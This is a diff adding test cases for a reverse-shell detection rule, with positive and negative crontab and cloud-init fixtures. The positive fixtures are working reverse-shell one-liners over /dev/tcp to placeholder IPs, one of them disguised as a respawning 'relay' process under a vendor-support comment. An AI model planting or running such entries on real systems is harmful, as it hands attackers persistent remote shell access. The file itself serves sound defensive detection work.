@@ -11,6 +11,21 @@ describeRuleCases('reverse-shell', [
       '#cloud-config\nwrite_files:\n  - path: /usr/local/sbin/relay\n    permissions: \'0755\'\n    content: |\n      #!/bin/bash\n      while true; do\n        mosquitto_pub -h "$BROKER" -t yard/hb -m up\n        sleep 30\n      done\nruncmd:\n  - [systemctl, enable, --now, relay.service]\n',
   },
   {
+    // A crontab file: the command after the schedule fields, renamed process respawned every tick.
+    id: 'SG-RSHELL-001',
+    file: 'rtu/crontab',
+    positive:
+      'MAILTO=""\n# vendor support channel\n*/5 * * * * pgrep -f relay >/dev/null || (exec -a relay /bin/sh -c \'while :; do /bin/sh -i >/dev/tcp/203.0.113.87/4443 0<&1 2>&1; sleep 30; done\' &)\n',
+    negative:
+      'MAILTO=""\n# poller watchdog\n*/5 * * * * pgrep -f poller >/dev/null || (exec -a poller /usr/local/bin/poller --config /etc/poller.yml &)\n',
+  },
+  {
+    id: 'SG-RSHELL-001',
+    file: 'etc/cron.d/sync',
+    positive: '@reboot root /bin/sh -i <>/dev/tcp/198.51.100.9/4443 >&0 2>&0\n',
+    negative: '@reboot root /usr/local/bin/sync --once\n',
+  },
+  {
     id: 'SG-RSHELL-001',
     file: 'cloud-init.cfg',
     positive: "#cloud-config\nruncmd:\n  - [bash, -c, 'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1']\n",
